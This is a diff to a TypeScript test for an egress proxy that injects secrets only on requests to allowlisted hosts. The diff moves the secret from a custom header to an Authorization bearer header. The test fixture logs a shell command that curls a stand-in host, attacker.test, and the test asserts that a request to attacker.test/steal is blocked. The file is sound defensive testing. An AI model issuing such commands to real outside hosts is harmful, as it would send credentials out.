@@ -13,7 +13,7 @@ import { AuditLog } from '../../src/audit/log';
 import { EGRESS_AUDIT_EVENT, getEgressAuditFields } from '../../src/egress/audit';
 import { parseHostPatterns } from '../../src/egress/hosts';
 import { EgressProxy } from '../../src/egress/proxy';
-import { normalizeNetworkPolicy } from '../../src/egress/rules';
+import { normalizeNetworkPolicy, normalizeSecretBindings } from '../../src/egress/rules';
 import { createSentinel } from '../../src/egress/sentinel';
 import { CHROMIUM_FLAGS } from '../audit/cdp';
 import { execgate } from '../audit/helpers';
@@ -40,14 +40,15 @@ beforeAll(async () => {
     onDecision: (decision) => audit.write(EGRESS_AUDIT_EVENT, getEgressAuditFields(decision)),
   });
   const sentinel = createSentinel(VALUE);
-  audit.write('exec.request', { runId: RUN, command: 'for i in 1 2 3; do curl -H "X: <<secret:api>>" http://allowed.test/; done; curl http://attacker.test/', mode: 'sync' });
-  audit.write('exec.started', { runId: RUN, command: 'for i in 1 2 3; do curl -H "X: <<secret:api>>" http://allowed.test/; done; curl http://attacker.test/', mode: 'sync', refs: [{ kind: 'secret', id: 'api', ref: '<<secret:api>>', found: true, source: 'memory' }] });
+  audit.write('exec.request', { runId: RUN, command: 'for i in 1 2 3; do curl -H "Authorization: Bearer <<secret:api>>" http://allowed.test/; done; curl http://attacker.test/', mode: 'sync' });
+  audit.write('exec.started', { runId: RUN, command: 'for i in 1 2 3; do curl -H "Authorization: Bearer <<secret:api>>" http://allowed.test/; done; curl http://attacker.test/', mode: 'sync', refs: [{ kind: 'secret', id: 'api', ref: '<<secret:api>>', found: true, source: 'memory' }] });
   const run = await proxy.openRun({
     runId: RUN,
     network: normalizeNetworkPolicy({ mode: 'allowlist', allow: ['allowed.test'] }),
-    injections: [{ ref: 'secret:api', value: VALUE, sentinel, hosts: parseHostPatterns(['allowed.test'], 'hosts') }],
+    // Plain HTTP to a local service: the binding names it in `http`.
+    injections: [{ ref: 'secret:api', value: VALUE, sentinel, hosts: parseHostPatterns(['allowed.test'], 'hosts'), binding: normalizeSecretBindings([{ ref: 'secret:api', hosts: ['allowed.test'], delivery: 'inject', http: ['allowed.test'] }])[0] }],
   });
-  for (let i = 0; i < 3; i++) expect(await getThrough(run, 'http://allowed.test/', { 'x-token': sentinel })).toBe(200);
+  for (let i = 0; i < 3; i++) expect(await getThrough(run, 'http://allowed.test/', { authorization: `Bearer ${sentinel}` })).toBe(200);
   expect(await getThrough(run, 'http://attacker.test/steal')).toBe(403);
   audit.write('exec.finished', { runId: RUN, exitCode: 0, durationMs: 40 });
   await run.close();
